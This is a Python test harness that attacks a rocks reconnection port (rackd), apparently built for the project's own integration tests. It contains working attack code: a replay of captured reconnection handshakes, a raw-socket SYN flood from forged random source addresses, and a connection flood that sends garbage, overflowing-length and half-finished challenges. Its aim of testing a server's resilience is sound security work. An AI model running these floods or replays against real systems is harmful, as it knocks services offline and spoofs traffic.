#!/usr/bin/env python3
"""rocks_attack.py: an attacker at a rocks reconnection port (docs/rocks.md §5.2-§5.4, §15). Python 3 stdlib only.

    rocks_attack.py wrong-key --connect ADDR:PORT [--no-pick] [--wait S]
    rocks_attack.py replay --pcap FILE --rackd ADDR:PORT --connect ADDR:PORT [--mode lockstep|blast] [--wait S]
    rocks_attack.py syn-flood --dst ADDR:PORT [--count N] [--sources PREFIX,...] [--rate PPS] [--seed S]
    rocks_attack.py connect-flood --connect ADDR:PORT [--count N] [--concurrency C] [--kinds K,...] [--hold S]
                                  [--wait S] [--seed S]

Each prints one JSON line (what it sent, what came back, how each attempt ended) and exits 0 once the attack
was carried out, whatever the target did: judging the outcome is the test's business. Exit 2: the attack
could not be made (bad arguments, a capture without a reconnection, no raw socket).

wrong-key  plays a rock reconnecting to ADDR:PORT without the connection's key: the 1of2 byte a rocks server
           writes (--no-pick: none, as a rocks client), then u32be 40 and a 40-byte challenge, Blowfish-ECB of
           32 random bytes and eight 08 bytes under a random 16-byte key (tools/blowfish.py), exactly what
           a rock sends but under the wrong key. It then reads until the target resets or closes the
           connection, or for --wait seconds (5). Outcome: refused (a RST to the SYN), reset, eof, open
           (nothing within --wait), with every byte the target wrote (hex).
replay     replays a genuine rocks reconnection captured in FILE (classic pcap, IPv4, whole packets: tcpdump
           -s 0): the link between rackd's reconnection endpoint --rackd and the rock that carried the
           exchange (the connection, in either direction, on which the rock's side wrote the most; its
           streams are reassembled up to their first hole: the capture may stop mid-transfer). The rock's side of it is cut into its messages: [the 1of2 byte] +
           challenge (4 + 40) + response (4 + 32) + recovery (44: heartbeat and reconnection sockaddrs,
           rcvseq, the two buffer sizes) + go-back-N; the target's side into challenge, response, recovery.
           Then, on a new connection to --connect (rackd's reconnection port), as the rock did:
             lockstep  [byte +] the recorded challenge; read the target's challenge (44 bytes, or whatever
                       comes within --wait); then the recorded response; then, if the connection is still
                       open, the recorded recovery messages; read until reset, EOF or --wait;
             blast     every recorded byte of the rock's exchange and up to 1 KiB of its go-back-N at once.
           Reported: the recorded messages (hex), whether both recorded challenges end in the same block (the
           key's fingerprint), what the target wrote on the replay (its challenge, and any more: a response
           would mean it answered an unproven peer), whether its challenge differs from the recorded one
           (fresh), and how the connection ended.
syn-flood  N forged SYNs to ADDR:PORT from random sources in --sources (default 10.200.0.0/16,172.16.0.0/12)
           and random ports, each with a random ISN and the options of a Linux SYN (MSS 1460, SACK
           permitted, window scale 7), IP and TCP checksums correct (tools/flood.py's packet builder).
           Nobody answers the target's SYN-ACKs: each leaves a half-open link behind. Needs a raw socket
           (root) in a namespace that routes to ADDR; the tests run it in R, which forwards to A.
connect-flood  N real connections to ADDR:PORT from this host's stack, at most --concurrency (32) open at
           once, each of a kind taken in turn from --kinds (default garbage,badlen,partial,junk,empty):
             garbage  the 1of2 byte, u32be 40, 40 random bytes (a challenge under no connection's key);
             badlen   the 1of2 byte, u32be 0xfffffff0, 40 random bytes (rocks' length overflow, §5.3);
             partial  the 1of2 byte, u32be 40, 20 random bytes (half a challenge), then silence for --hold
                      seconds (1), then an abortive close (RST);
             junk     300 random bytes;
             empty    nothing: connect, then close (FIN), as a rocks probe would.
           Each ends as refused, reset (by the target), eof, closed (by us, for partial and empty, while
           the target still held it), open (nothing within --wait, 3 s: closed by us), or error. The JSON
           counts the outcomes per kind and the bytes the target wrote (a rackd client writes none on a
           link no challenge attributed).

Written for integration-tests/test_rocks_attacks.sh; the peer it attacks is rackd's rocks reconnection port
(Sources/RackEngine/Peers/Rocks/RocksReconnectionPort.swift), but any rock's listening reconnection socket
takes the same bytes.
"""
import argparse
import errno
import ipaddress
import json
import os
import random
import selectors
import socket
import struct
import sys
import time

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
import blowfish  # noqa: E402
import flood  # noqa: E402
import rocks_trace_compare as rtc  # noqa: E402

CHALLENGE_LEN = 40
RESPONSE_LEN = 32
RECOVERY_LEN = 16 + 16 + 4 + 4 + 4
LINUX_SYN_OPTIONS = b"\x02\x04\x05\xb4" + b"\x04\x02" + b"\x01\x03\x03\x07"  # MSS 1460, SACK-permitted, NOP, WS 7


class AttackError(Exception):
    pass


def endpoint(text):
    host, _, port = text.rpartition(":")
    try:
        return str(ipaddress.IPv4Address(host)), int(port)
    except ValueError:
        raise argparse.ArgumentTypeError("'%s' is not IPv4ADDR:PORT" % text) from None


def u32(n):
    return struct.pack(">I", n)


def challenge_under(key):
    """A rock's challenge message under `key`: u32be 40, Blowfish-ECB(32 random bytes + eight 08)."""
    body = blowfish.ecb_encrypt(key, os.urandom(RESPONSE_LEN))
    assert len(body) == CHALLENGE_LEN
    return u32(CHALLENGE_LEN) + body


# ---------------------------------------------------------------------------------------------------
# One connection, and how it ends

def read_until_end(sock, wait, want=None):
    """Reads until the peer resets or closes, `want` bytes came, or `wait` seconds passed.
    Returns (received bytes, outcome: reset | eof | open | enough)."""
    got = bytearray()
    deadline = time.monotonic() + wait
    while True:
        if want is not None and len(got) >= want:
            return bytes(got), "enough"
        left = deadline - time.monotonic()
        if left <= 0:
            return bytes(got), "open"
        sock.settimeout(left)
        try:
            chunk = sock.recv(65536)
        except socket.timeout:
            return bytes(got), "open"
        except ConnectionResetError:
            return bytes(got), "reset"
        if not chunk:
            return bytes(got), "eof"
        got += chunk


def connect(addr, wait):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.settimeout(wait)
    try:
        sock.connect(addr)
    except ConnectionRefusedError:
        sock.close()
        return None, "refused"
    except (socket.timeout, OSError) as e:
        sock.close()
        return None, "connect failed: %s" % e
    return sock, None


def send(sock, data):
    """Sends, telling a reset apart; returns None or the outcome."""
    try:
        sock.sendall(data)
    except (ConnectionResetError, BrokenPipeError):
        return "reset"
    return None


# ---------------------------------------------------------------------------------------------------
# wrong-key

def wrong_key(args):
    key = os.urandom(16)
    payload = (b"" if args.no_pick else bytes([random.randrange(256)])) + challenge_under(key)
    t0 = time.monotonic()
    sock, failed = connect(args.connect, args.wait)
    out = {"attack": "wrong-key", "target": "%s:%d" % args.connect, "sent_hex": payload.hex(), "key": key.hex()}
    if sock is None:
        out.update(outcome=failed, received_hex="", seconds=round(time.monotonic() - t0, 3))
        return out
    out["local"] = "%s:%d" % sock.getsockname()
    outcome = send(sock, payload)
    t_sent = time.monotonic()
    got = b""
    if outcome is None:
        got, outcome = read_until_end(sock, args.wait)
    sock.close()
    out.update(outcome=outcome, received_hex=got.hex(), seconds_after_challenge=round(time.monotonic() - t_sent, 3))
    return out


# ---------------------------------------------------------------------------------------------------
# replay

def stream_prefix(conn, d):
    """The bytes sent in direction d from relative sequence 1 up to the first hole: the exchange is at the
    start, and the capture may miss segments of the data that follows (it is stopped mid-transfer)."""
    out, pos = bytearray(), 1
    for rel, payload, _ in conn.ordered(d):
        if rel + len(payload) <= pos:
            continue
        if rel > pos:
            break
        out += payload[pos - rel:]
        pos = rel + len(payload)
    return bytes(out)


def recorded_link(path, rackd):
    """The rock's and rackd's streams on the captured link that carried the exchange."""
    packets = [p for p in rtc.read_pcap(path) if p.proto == "tcp"]
    links = {}
    for p in packets:
        if (p.src, p.sport) == rackd:
            rock, d = (p.dst, p.dport), "from-rackd"
        elif (p.dst, p.dport) == rackd:
            rock, d = (p.src, p.sport), "from-rock"
        else:
            continue
        if p.flags & rtc.SYN and not p.flags & rtc.ACK:
            # A new connection on this tuple (the rock's SYN storm reuses no port, but be safe): start afresh.
            links[rock] = {"syn_from": d, "packets": [(d, p)]}
        elif rock in links:
            links[rock]["packets"].append((d, p))
    best = None
    for rock, link in links.items():
        first = link["packets"][0][1]
        conn = rtc.Conn(first)
        forward = link["syn_from"]
        for d, p in link["packets"][1:]:
            conn.add(p, "c2s" if d == forward else "s2c")
        streams = {d: stream_prefix(conn, "c2s" if d == forward else "s2c") for d in ("from-rock", "from-rackd")}
        if best is None or len(streams["from-rock"]) > len(best[1]["from-rock"]):
            best = (rock, streams, link["syn_from"])
    if best is None:
        raise AttackError("%s: no connection with rackd's endpoint %s:%d carried bytes%s" % (
            path, rackd[0], rackd[1], "" if not links else " (%d links seen)" % len(links)))
    return best, len(links)


def cut_rock(stream):
    """The rock's exchange: (pick byte or b"", challenge msg, response msg, recovery msg, the rest)."""
    if stream[0:4] == u32(CHALLENGE_LEN):
        pick, rest = b"", stream
    elif stream[1:5] == u32(CHALLENGE_LEN):
        pick, rest = stream[:1], stream[1:]
    else:
        raise AttackError("the rock's stream does not start with [byte +] u32be 40: %s" % stream[:8].hex())
    challenge, rest = rest[:4 + CHALLENGE_LEN], rest[4 + CHALLENGE_LEN:]
    response, rest = rest[:4 + RESPONSE_LEN], rest[4 + RESPONSE_LEN:]
    if response[:4] != u32(RESPONSE_LEN):
        raise AttackError("the rock's response does not start with u32be 32: %s" % response[:4].hex())
    recovery, rest = rest[:RECOVERY_LEN], rest[RECOVERY_LEN:]
    if len(recovery) < RECOVERY_LEN:
        raise AttackError("the capture holds only %d bytes of the rock's recovery messages" % len(recovery))
    return pick, challenge, response, recovery, rest


def replay(args):
    (rock, streams, syn_from), nlinks = recorded_link(args.pcap, args.rackd)
    pick, challenge, response, recovery, rest = cut_rock(streams["from-rock"])
    theirs = streams["from-rackd"]
    rackd_challenge = theirs[:4 + CHALLENGE_LEN]
    out = {
        "attack": "replay-" + args.mode, "target": "%s:%d" % args.connect,
        "recorded": {
            "links": nlinks, "rock": "%s:%d" % rock, "opened_by": "rock" if syn_from == "from-rock" else "rackd",
            "rock_bytes": len(streams["from-rock"]), "rackd_bytes": len(theirs),
            "pick_hex": pick.hex(), "challenge_hex": challenge.hex(), "response_hex": response.hex(),
            "recovery_hex": recovery.hex(), "rackd_challenge_hex": rackd_challenge.hex(),
            "rackd_response_hex": theirs[44:80].hex(),
            "same_fingerprint": len(rackd_challenge) == 44 and rackd_challenge[-8:] == challenge[-8:],
        },
    }
    sent = bytearray()
    t0 = time.monotonic()
    sock, failed = connect(args.connect, args.wait)
    if sock is None:
        out.update(outcome=failed, sent_bytes=0, received_hex="")
        return out
    out["local"] = "%s:%d" % sock.getsockname()
    got = b""
    if args.mode == "blast":
        data = pick + challenge + response + recovery + rest[:1024]
        outcome = send(sock, data)
        sent += data
        if outcome is None:
            got, outcome = read_until_end(sock, args.wait)
    else:
        steps = [pick + challenge, response, recovery]
        outcome = None
        for i, data in enumerate(steps):
            outcome = send(sock, data)
            if outcome is not None:
                break
            sent += data
            # After the challenge: wait for the target's challenge (44 bytes), as the rock read it; after the
            # response: whatever comes (a reset, or the target's response if it accepted ours).
            more, outcome = read_until_end(sock, args.wait if i else args.wait, want=44 if i == 0 else None)
            got += more
            if outcome != "enough" and outcome != "open":
                break
            if i == 0 and outcome == "open":
                break  # no challenge came: nothing to answer
            outcome = None
        if outcome is None:
            outcome = "open"
    sock.close()
    challenge_back = got[:44]
    out.update(
        outcome=outcome, seconds=round(time.monotonic() - t0, 3), sent_bytes=len(sent), received_bytes=len(got),
        received_hex=got.hex(),
        target_challenge_fresh=len(challenge_back) == 44 and challenge_back != rackd_challenge,
        target_challenge_fingerprint_matches=len(challenge_back) == 44 and challenge_back[-8:] == challenge[-8:],
        target_answered=len(got) > 44,
    )
    return out


# ---------------------------------------------------------------------------------------------------
# syn-flood

def syn_flood(args):
    dst, dport = ipaddress.IPv4Address(args.dst[0]), args.dst[1]
    sources = flood.prefixes(args.sources)
    rng = random.Random(args.seed)
    try:
        sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    except PermissionError as e:
        raise AttackError("a raw socket needs root: %s" % e) from e
    interval = 1.0 / args.rate if args.rate > 0 else 0.0
    sent = errors = 0
    start = time.monotonic()
    for i in range(args.count):
        if interval:
            delay = start + i * interval - time.monotonic()
            if delay > 0:
                time.sleep(delay)
        packet = flood.packet_v4(flood.random_source(rng, sources), dst, rng.randrange(1024, 65536), dport,
                                 rng.getrandbits(32), LINUX_SYN_OPTIONS, rng)
        for attempt in range(100):
            try:
                sock.sendto(packet, (str(dst), 0))
                sent += 1
                break
            except (BlockingIOError, InterruptedError):
                continue
            except OSError as e:
                if e.errno == errno.ENOBUFS and attempt < 99:
                    time.sleep(0.001)
                    continue
                errors += 1
                break
    return {"attack": "syn-flood", "target": "%s:%d" % args.dst, "sent": sent, "errors": errors,
            "seconds": round(time.monotonic() - start, 3), "sources": args.sources}


# ---------------------------------------------------------------------------------------------------
# connect-flood

KINDS = ("garbage", "badlen", "partial", "junk", "empty")


def flood_payload(kind, rng):
    pick = bytes([rng.randrange(256)])
    if kind == "garbage":
        return pick + u32(CHALLENGE_LEN) + rng.randbytes(CHALLENGE_LEN)
    if kind == "badlen":
        return pick + u32(0xFFFFFFF0) + rng.randbytes(CHALLENGE_LEN)
    if kind == "partial":
        return pick + u32(CHALLENGE_LEN) + rng.randbytes(20)
    if kind == "junk":
        return rng.randbytes(300)
    return b""


def connect_flood(args):
    kinds = [k for k in args.kinds.split(",") if k]
    bad = [k for k in kinds if k not in KINDS]
    if bad or not kinds:
        raise AttackError("unknown kinds: %s (known: %s)" % (",".join(bad) or "none", ",".join(KINDS)))
    rng = random.Random(args.seed)
    sel = selectors.DefaultSelector()
    outcomes = {k: {} for k in kinds}
    received = {k: 0 for k in kinds}
    started = done = 0
    t0 = time.monotonic()

    def finish(sock, state, outcome, abortive=False):
        nonlocal done
        sel.unregister(sock)
        if abortive:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        sock.close()
        per = outcomes[state["kind"]]
        per[outcome] = per.get(outcome, 0) + 1
        done += 1

    def start():
        nonlocal started
        kind = kinds[started % len(kinds)]
        started += 1
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        err = sock.connect_ex(args.connect)
        state = {"kind": kind, "phase": "connecting", "deadline": time.monotonic() + args.wait,
                 "payload": flood_payload(kind, rng)}
        sel.register(sock, selectors.EVENT_WRITE, state)
        if err not in (0, errno.EINPROGRESS):
            finish(sock, state, "error")

    while done < args.count:
        while started < args.count and started - done < args.concurrency:
            start()
        now = time.monotonic()
        events = sel.select(timeout=0.05)
        for key, _ in events:
            sock, state = key.fileobj, key.data
            if state["phase"] == "connecting":
                err = sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                if err:
                    finish(sock, state, "refused" if err == errno.ECONNREFUSED else "error")
                    continue
                if state["kind"] == "empty":
                    finish(sock, state, "closed")
                    continue
                try:
                    sock.send(state["payload"])
                except (ConnectionResetError, BrokenPipeError):
                    finish(sock, state, "reset")
                    continue
                state["phase"] = "waiting"
                state["deadline"] = now + (args.hold if state["kind"] == "partial" else args.wait)
                sel.modify(sock, selectors.EVENT_READ, state)
                continue
            try:
                chunk = sock.recv(65536)
            except ConnectionResetError:
                finish(sock, state, "reset")
                continue
            except BlockingIOError:
                continue
            if not chunk:
                finish(sock, state, "eof")
            else:
                received[state["kind"]] += len(chunk)
        now = time.monotonic()
        for key in list(sel.get_map().values()):
            state = key.data
            if now >= state["deadline"]:
                if state["phase"] == "connecting":
                    finish(key.fileobj, state, "connect-timeout", abortive=True)
                elif state["kind"] == "partial":
                    finish(key.fileobj, state, "closed", abortive=True)
                else:
                    finish(key.fileobj, state, "open", abortive=True)
    totals = {}
    for per in outcomes.values():
        for outcome, n in per.items():
            totals[outcome] = totals.get(outcome, 0) + n
    return {"attack": "connect-flood", "target": "%s:%d" % args.connect, "attempts": done,
            "seconds": round(time.monotonic() - t0, 3), "outcomes": totals, "per_kind": outcomes,
            "received_bytes": sum(received.values()), "received_per_kind": received}


# ---------------------------------------------------------------------------------------------------

def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0],
                                     formatter_class=argparse.RawDescriptionHelpFormatter,
                                     epilog="\n".join(__doc__.splitlines()[2:]))
    sub = parser.add_subparsers(dest="command", required=True)
    p = sub.add_parser("wrong-key", help="a reconnection under a random key")
    p.add_argument("--connect", type=endpoint, required=True)
    p.add_argument("--no-pick", action="store_true", help="no 1of2 byte first (the target is a rocks server)")
    p.add_argument("--wait", type=float, default=5.0)
    p = sub.add_parser("replay", help="replay the rock's side of a captured reconnection")
    p.add_argument("--pcap", required=True)
    p.add_argument("--rackd", type=endpoint, required=True, help="rackd's reconnection endpoint in the capture")
    p.add_argument("--connect", type=endpoint, required=True)
    p.add_argument("--mode", choices=("lockstep", "blast"), default="lockstep")
    p.add_argument("--wait", type=float, default=3.0)
    p = sub.add_parser("syn-flood", help="forged SYNs from random sources")
    p.add_argument("--dst", type=endpoint, required=True)
    p.add_argument("--count", "-n", type=int, default=10000)
    p.add_argument("--sources", default="10.200.0.0/16,172.16.0.0/12")
    p.add_argument("--rate", type=float, default=0.0, help="SYNs per second (default: as fast as possible)")
    p.add_argument("--seed", type=int)
    p = sub.add_parser("connect-flood", help="real connections sending garbage or partial challenges")
    p.add_argument("--connect", type=endpoint, required=True)
    p.add_argument("--count", "-n", type=int, default=2000)
    p.add_argument("--concurrency", type=int, default=32)
    p.add_argument("--kinds", default=",".join(KINDS))
    p.add_argument("--hold", type=float, default=1.0, help="seconds a partial challenge is held open")
    p.add_argument("--wait", type=float, default=3.0, help="seconds to wait for the target's verdict")
    p.add_argument("--seed", type=int)
    args = parser.parse_args(argv)
    try:
        result = {"wrong-key": wrong_key, "replay": replay, "syn-flood": syn_flood,
                  "connect-flood": connect_flood}[args.command](args)
    except (AttackError, rtc.CaptureError) as e:
        print("rocks_attack.py: %s" % e, file=sys.stderr)
        return 2
    print(json.dumps(result, sort_keys=True))
    return 0


if __name__ == "__main__":
    sys.exit(main())
